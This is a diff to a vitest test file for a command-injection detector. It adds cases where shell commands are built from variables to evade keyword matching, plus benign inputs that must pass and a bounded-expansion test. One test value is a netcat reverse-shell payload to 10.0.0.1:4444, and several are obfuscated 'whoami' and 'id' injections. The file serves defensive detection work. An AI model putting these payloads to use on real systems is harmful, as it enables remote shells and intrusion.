@@ -1,5 +1,7 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell payloads, not templates
-import { describe } from 'vitest'
+import { describe, expect, it } from 'vitest'
+import { tokenizeShell } from '../../src/detect/cmd/shell.js'
+import { detect } from '../../src/detect/index.js'
 import { flagsAndLeaves } from './helpers.js'
 
 /**
@@ -66,4 +68,42 @@ describe('command injection: cmd.exe carets and %COMSPEC%', () => {
     ['x; y = e^x + 2^10', 'so 2^10 is 1024; nice', 'a; x^2', 'ok ^^ lol; sure', 'the ^ key & the caret'],
     true,
   )
+})
+
+/**
+ * A variable the text assigns, expanded where a later word reads it: the command is assembled
+ * from pieces that name nothing alone (`; x=id; $x`, `; a=wh;b=oami;$a$b`).
+ */
+describe('command injection: variables the text assigns', () => {
+  flagsAndLeaves(
+    [
+      ['; x=id; $x', 'cmd-separator-command'],
+      ['; x=id;${x}', 'cmd-separator-command'],
+      ['; a=wh;b=oami;$a$b', 'cmd-separator-command'],
+      ['x=wh; y=oami; $x$y', 'cmd-separator-command'],
+      ["; x='id'; $x", 'cmd-separator-command'],
+      ['| c=nc; $c -e /bin/sh 10.0.0.1 4444', 'cmd-separator-command'],
+      ['&& p=/usr/bin/; ${p}id', 'cmd-separator-command'],
+    ],
+    [
+      'a=b; $a',
+      'price=5; $price is ok',
+      'x=1; $y',
+      'set x=5; then $x is five',
+      'total=10; $total dollars',
+      '?cmd=ls&x=1; $cmd',
+    ],
+    true,
+  )
+})
+
+describe('command injection: variable expansion stays linear', () => {
+  it('a text of references to a long value expands to a bounded text', () => {
+    // each reference may put in at most 32 characters, and a text at most 1 024 in all
+    const s = `a=${'x'.repeat(32)}; ${'$a'.repeat(30_000)}`
+    expect(detect(s)).toEqual([])
+    const words = tokenizeShell(s.toLowerCase())
+    const longest = Math.max(...words.toks.slice(0, words.n).map((t) => t.v.length))
+    expect(longest).toBeLessThanOrEqual(1024 + 32)
+  })
 })
